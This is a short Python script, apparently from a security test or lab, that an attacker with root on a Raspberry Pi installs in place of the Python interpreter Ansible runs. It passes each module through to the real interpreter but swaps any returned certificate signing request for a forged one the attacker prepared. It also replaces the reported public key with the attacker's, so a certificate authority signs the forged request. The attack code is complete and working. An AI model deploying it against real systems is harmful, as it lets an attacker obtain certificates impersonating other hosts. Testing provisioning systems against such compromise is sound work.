#!@REAL_PYTHON@
"""Root on a Pi, lying to the controller: installed in place of the Python
that Ansible runs (the real one moved aside to <name>.real, which replaces
@REAL_PYTHON@ here), it runs every module Ansible sends and hands back its
result, except that a certificate signing request in it is swapped for the
attacker's (/etc/pisec-forge/active.csr): a request naming another host,
signed with a key the attacker holds; and the public key the host-state
report gives for the served key is the attacker's, so that the CA will not
keep A's certificate without a request and the forged request is sent."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import Any

FORGED = "/etc/pisec-forge/active.csr"
FORGED_KEY = "/etc/pisec-forge/attacker.pub"
REAL_PYTHON = "@REAL_PYTHON@"

result = subprocess.run([REAL_PYTHON, *sys.argv[1:]], stdout=subprocess.PIPE, check=False)
output = result.stdout
try:
    data: Any = json.loads(output)
except ValueError:
    data = None
if isinstance(data, dict) and data.get("csr"):
    with open(FORGED, encoding="ascii") as handle:
        data["csr"] = handle.read()
    output = json.dumps(data).encode()
if isinstance(data, dict) and data.get("public_key") and "layout" in data:
    with open(FORGED_KEY, encoding="ascii") as handle:
        data["public_key"] = handle.read()
    output = json.dumps(data).encode()
sys.stdout.buffer.write(output)
sys.exit(result.returncode)
